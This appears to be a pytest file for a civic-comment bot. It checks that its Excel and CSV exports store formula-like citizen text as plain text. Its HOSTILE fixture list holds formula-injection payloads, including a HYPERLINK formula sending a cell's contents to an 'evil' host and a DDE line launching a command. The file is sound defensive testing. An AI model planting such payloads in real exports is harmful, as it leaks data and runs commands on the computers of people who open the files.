"""Every spreadsheet and CSV the bot writes keeps a citizen's formula-like text as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from bot.ui import exports
from bot.ui.cells import csv_cell, formula_like
from bot.ui.workbooks import comments_workbook
from desk.model import Contact, Draft, Kind, Platform, Request, Status

HOSTILE = [
    '=HYPERLINK("https://evil/?"&E3,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0\u200b=1+1",
    '\uff1dHYPERLINK("https://evil")',
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
]
HARMLESS = ["سلام", "a=b", "1405-09-07", "", "نظر: =خوب"]
NOW = datetime(2026, 12, 1, 8, 0, tzinfo=UTC)


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_catches_every_start(value: str) -> None:
    assert formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_is_left_alone(value: str) -> None:
    assert not formula_like(value)
    assert csv_cell(value) == value
    assert csv_cell(5) == 5


def _comment(n: int, text: str, name: str) -> Request:
    return Request(
        code=f"D-{n:04d}",
        kind=Kind.COMMENT,
        status=Status.FILED,
        text=text,
        created_at=NOW,
        updated_at=NOW,
        contact=Contact(name=name),
        platform=Platform.TELEGRAM,
        section=0,
    )


def test_the_comment_digest_stores_hostile_comments_and_names_as_text() -> None:
    draft = Draft(
        title="پیش‌نویس",
        summary="",
        unit="extension",
        opens_at=NOW,
        closes_at=NOW,
        id=7,
    )
    comments = [_comment(i, text, text) for i, text in enumerate(HOSTILE)]
    sheet = load_workbook(io.BytesIO(comments_workbook(draft, comments))).active
    assert sheet is not None
    for row, text in enumerate(HOSTILE, start=2):
        for column in (4, 5):  # the comment and the citizen's name
            cell = sheet.cell(row, column)
            assert cell.data_type == "s", (text, cell.data_type)
            assert cell.value == text.replace("\r", "\n")  # XML reads a CR as LF


def test_the_export_workbook_and_csv_store_hostile_text_as_text() -> None:
    table = exports.Sheet(
        key="requests",
        title="درخواست‌ها",
        headers=["کد", "متن"],
        rows=[[f"C-{i}", text] for i, text in enumerate(HOSTILE)],
    )
    sheet = load_workbook(io.BytesIO(exports.workbook([table])))["درخواست‌ها"]
    for number, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(number, 2)
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == text.replace("\r", "\n")  # XML reads a CR as LF

    content = exports.csv_file(table).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [row[1] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    for line in rows[1:]:
        assert line[1].startswith("'")
